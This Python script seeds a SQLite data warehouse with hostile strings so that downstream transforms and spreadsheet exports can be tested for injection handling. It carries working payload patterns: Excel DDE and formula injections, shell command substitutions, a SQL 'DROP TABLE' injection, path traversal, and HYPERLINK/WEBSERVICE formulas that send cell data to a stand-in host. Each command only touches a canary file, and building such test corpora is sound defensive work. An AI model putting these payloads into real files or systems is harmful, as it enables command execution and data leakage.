"""hostile.py WAREHOUSE CANARY SEED: every name, title and note people or platforms may write becomes one that would do harm, in an ingested warehouse
before transform: formulas, commands that would make the file CANARY, markup, control characters, every script, 40 kB, names of sheets Excel forbids,
names alike but for case; and 300 campaigns of one name. A word becomes the same word wherever it stands. A seed, the same bytes."""
import hashlib, sqlite3, sys

warehouse, canary, seed = sys.argv[1:]
HARM = [
    "=cmd|' /C touch {c}'!A0", "+1+cmd|' /C touch {c}'!A0", "@SUM(1)*cmd|'/C touch {c}'!A0", "-2+3", '=HYPERLINK("http://x.test/?"&A1,"here")',
    '=WEBSERVICE("http://x.test/")', "`touch {c}`", "$(touch {c})", '"; system("touch {c}"); print "', "'; touch {c} #", "' \"`touch {c}`\" '", "|touch {c}",
    "< touch {c}", "> {c}", "EOD\n!touch {c}\n", "$data << EOD\nsystem('touch {c}')", "@touch {c}", "\\\nset output '{c}'\nplot 1", "{{/Times=400 x}}^_&@~",
    "x'); DROP TABLE load; --", "]]>", "</t></is></c><c><f>1+1</f></c>", "&lt;&amp;&#0;&", "_x0041_", "_x000D__x0000_", "%s%n%d %1$s", "{{name}} {{n:money}}", "a\tb\r\nc",
    "line one\nline two\nline three\nline four", "\x01\x02\x1f\x7f\x08\x0b bell", "\ufffe\uffff\ufeff", "History", "history", "[a]:b*c?d/e\\f", "'quoted'", "Data", "About", "NaN", "1E400", "TRUE",
    "7.66567883229209E+18", "2026-11-22", "00123", "😀👩‍👩‍👧‍👦🇲🇾", "😀" * 40, "สมหญิง ใจดี ผู้จัดรายการสด", "Nguyễn Thị Ánh Nguyệt", "陈美玲直播间欧阳", "فاطمة الزهراء", "\u202eevil\u202c", "a\u0301" * 60,
    "W" * 120, "wort" * 10000, "Aina", "AINA", "aina", "Ａｉｎａ", "ß", "SS", "İi", " lead", "trail ", "#REF!", "&P&D&\"Arial\"", "&C&8&A", "-", "–", ".", "..", "../../{c}", "C:\\CON", "\u00a0", "\u200b",
]
COLUMNS = {
    "raw_staff": ["name"], "raw_accounts": ["shop", "aliases", "room"], "raw_session": ["title", "handle"], "raw_ad_session": ["title"],
    "raw_campaigns": ["name", "mechanics"], "raw_product_session": ["product"], "raw_product_period": ["product"], "raw_order_line": ["product"],
    "raw_stock": ["product"], "raw_run_down": ["product", "voucher"], "raw_incidents": ["note"], "raw_coaching": ["topic", "by", "note"], "raw_followup": ["owner", "note"],
    "raw_audits": ["note"], "raw_attendance": ["note"], "raw_equipment": ["room"], "raw_violations": ["policy"], "raw_actions": ["value"],
}


def harm(word):
    if word is None:
        return None
    n = int.from_bytes(hashlib.sha256(f"{seed}\0{word}".encode("utf-8", "replace")).digest()[:4], "big")
    return HARM[n % len(HARM)].format(c=canary) + (f" {n % 7}" if n % 3 == 0 else "")


db = sqlite3.connect(warehouse)
db.text_factory = lambda b: b.decode("utf-8", "replace")
db.create_function("harm", 1, harm)
changed = 0
for table, columns in COLUMNS.items():
    there = {r[1] for r in db.execute(f"PRAGMA table_info({table})")}
    for column in columns:
        if there:
            assert column in there, (table, column)
            changed += db.execute(f'UPDATE {table} SET "{column}" = harm("{column}")').rowcount
# Every staff name another harm, so that the scorecards' sheets meet many; two of them alike but for case.
for k, (key,) in enumerate(db.execute("SELECT DISTINCT staff_id FROM raw_staff ORDER BY staff_id").fetchall()):
    db.execute("UPDATE raw_staff SET name = ? WHERE staff_id = ?", (HARM[(k * 5 + int(seed) * 7) % len(HARM)].format(c=canary), key))
names = [r[1] for r in db.execute("PRAGMA table_info(raw_campaigns)")]
if names and db.execute("SELECT count(*) FROM raw_campaigns").fetchone()[0]:
    rest = ", ".join(f'"{n}"' for n in names if n not in ("campaign_id", "name"))
    for k in range(300):
        db.execute(f"INSERT INTO raw_campaigns (campaign_id, name, {rest}) SELECT ?, ?, {rest} FROM raw_campaigns WHERE campaign_id NOT LIKE 'same-%' ORDER BY campaign_id, platform, vhash LIMIT 1 OFFSET ?",
                   (f"same-{k}", "=1+1 one name", k % 5))
    worst = "../../`touch " + canary + "`"
    db.execute("UPDATE raw_campaigns SET campaign_id = ? WHERE campaign_id = 'same-7'", (worst,))
db.commit()
print(changed)
assert changed > 100
